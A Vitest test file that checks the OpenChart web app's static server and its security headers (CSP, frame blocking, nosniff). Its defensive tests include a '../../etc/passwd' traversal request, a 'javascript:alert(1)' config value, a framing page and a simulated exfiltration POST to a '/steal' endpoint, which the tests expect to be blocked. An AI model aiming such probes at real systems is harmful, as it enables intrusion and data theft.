import fs from "node:fs";
import http from "node:http";
import type { AddressInfo } from "node:net";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { launchChromium } from "@openchart/testkit/chromium";
import { serveWebApp, type StaticSite } from "./static-site";
import { buildWebApp } from "./web-build";

const CONFIG = {
  chainId: 31337,
  rpcUrl: "http://127.0.0.1:8545",
  apiUrl: "http://127.0.0.1:8787/",
  apiAudience: "http://127.0.0.1:8787",
  ceramicUrl: "http://127.0.0.1:7007",
  ipfsUrl: "http://localhost:5001",
};
const CONNECT_SRC = "connect-src 'self' http://127.0.0.1:8545 http://127.0.0.1:8787 ws://127.0.0.1:8787 http://127.0.0.1:7007 http://localhost:5001";

let root: string;
let site: StaticSite;

beforeAll(async () => {
  root = fs.mkdtempSync(path.join(os.tmpdir(), "openchart-site-"));
  fs.writeFileSync(path.join(root, "index.html"), "<!doctype html><title>OpenChart</title>");
  site = await serveWebApp({ root, port: 0, config: { chainId: 31337 } });
});

afterAll(async () => {
  await site?.close();
  fs.rmSync(root, { recursive: true, force: true });
});

describe("the web app's static server", () => {
  it("serves the app, its runtime config, and index.html for the app's own routes", async () => {
    expect(await (await fetch(`${site.url}`)).text()).toContain("<title>OpenChart</title>");
    expect(await (await fetch(`${site.url}config.json`)).json()).toEqual({ chainId: 31337 });
    expect(await (await fetch(`${site.url}doctor`)).text()).toContain("<title>OpenChart</title>");
    expect((await fetch(`${site.url}missing.js`)).status).toBe(404);
  });

  it("serves module scripts, .mjs included (pdf.js's worker), as JavaScript: under nosniff another type is refused", async () => {
    for (const name of ["app.js", "pdf.worker.min.mjs"]) {
      fs.writeFileSync(path.join(root, name), "export {};");
      expect((await fetch(`${site.url}${name}`)).headers.get("content-type")).toBe("text/javascript");
    }
  });

  it("answers paths it cannot decode or the file system refuses, and stays up", async () => {
    expect((await fetch(`${site.url}%E0%A4%A`)).status).toBe(400);
    expect((await fetch(`${site.url}index.html/x.js`)).status).toBe(404);
    expect((await fetch(`${site.url}${"a".repeat(5_000)}.js`)).status).toBe(404);
    expect((await fetch(`${site.url}../../etc/passwd`)).status).not.toBe(500);
    expect((await fetch(`${site.url}`)).status).toBe(200);
  });
});

describe("the web app's security headers (security round 2, item 8)", () => {
  it("forbid inline script, framing, sniffing and referrers, and connect only to the configured endpoints", async () => {
    const configured = await serveWebApp({ root, port: 0, config: CONFIG });
    try {
      for (const file of ["", "config.json", "doctor", "missing.js"]) {
        const { headers } = await fetch(`${configured.url}${file}`);
        const csp = headers.get("content-security-policy") ?? "";
        expect(csp.split("; ")).toEqual(
          expect.arrayContaining(["default-src 'none'", "script-src 'self' 'wasm-unsafe-eval'", "style-src 'self'", "frame-ancestors 'none'", "object-src 'none'", "base-uri 'none'", CONNECT_SRC]),
        );
        expect(csp.replace("'wasm-unsafe-eval'", "")).not.toMatch(/unsafe|\*/);
        expect(headers.get("x-frame-options")).toBe("DENY");
        expect(headers.get("x-content-type-options")).toBe("nosniff");
        expect(headers.get("referrer-policy")).toBe("no-referrer");
      }
    } finally {
      await configured.close();
    }
    await expect(serveWebApp({ root, port: 0, config: { rpcUrl: "javascript:alert(1)" } })).rejects.toThrow(/rpcUrl/);
  });

  it("let the built app run with no violation, block a connection to any other endpoint, and refuse a foreign frame", async () => {
    const web = await buildWebApp();
    const app = await serveWebApp({ root: web.dir, port: 0, config: CONFIG });
    const framing = http.createServer((_request, response) => {
      response.writeHead(200, { "content-type": "text/html" }).end(`<!doctype html><iframe id="victim" src="${app.url}"></iframe>`);
    });
    await new Promise<void>((resolve) => framing.listen(0, "127.0.0.1", resolve));
    const browser = await launchChromium();
    try {
      const page = await browser.newPage();
      await page.addInitScript(() => {
        const seen: string[] = [];
        (globalThis as unknown as { violations: string[] }).violations = seen;
        document.addEventListener("securitypolicyviolation", (event) => seen.push(`${event.effectiveDirective} ${event.blockedURI}`));
      });
      await page.goto(app.url);
      await page.waitForFunction(() => (document.querySelector("#app")?.childElementCount ?? 0) > 0);
      await page.waitForLoadState("networkidle");
      expect(await page.evaluate(() => (globalThis as unknown as { violations: string[] }).violations)).toEqual([]);
      // The sdk hashes documents with WebAssembly (hash-wasm): compiling a module is allowed.
      const wasm = await page.evaluate(() => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(() => "compiled", (error: Error) => error.message));
      expect(wasm).toBe("compiled");
      // What injected script would do with stolen data: send it elsewhere.
      const exfiltrated = await page.evaluate(() => fetch("http://127.0.0.1:9/steal", { method: "POST", body: "x" }).then(() => "sent", () => "blocked"));
      expect(exfiltrated).toBe("blocked");
      expect(await page.evaluate(() => (globalThis as unknown as { violations: string[] }).violations)).toEqual(["connect-src http://127.0.0.1:9/steal"]);

      const foreign = await browser.newPage();
      await foreign.goto(`http://127.0.0.1:${(framing.address() as AddressInfo).port}/`);
      const frame = await (await foreign.waitForSelector("#victim")).contentFrame();
      await foreign.waitForTimeout(500);
      expect(await frame!.evaluate(() => document.querySelector("#app") !== null).catch(() => false)).toBe(false);
    } finally {
      await browser.close();
      framing.close();
      await app.close();
    }
  });
});
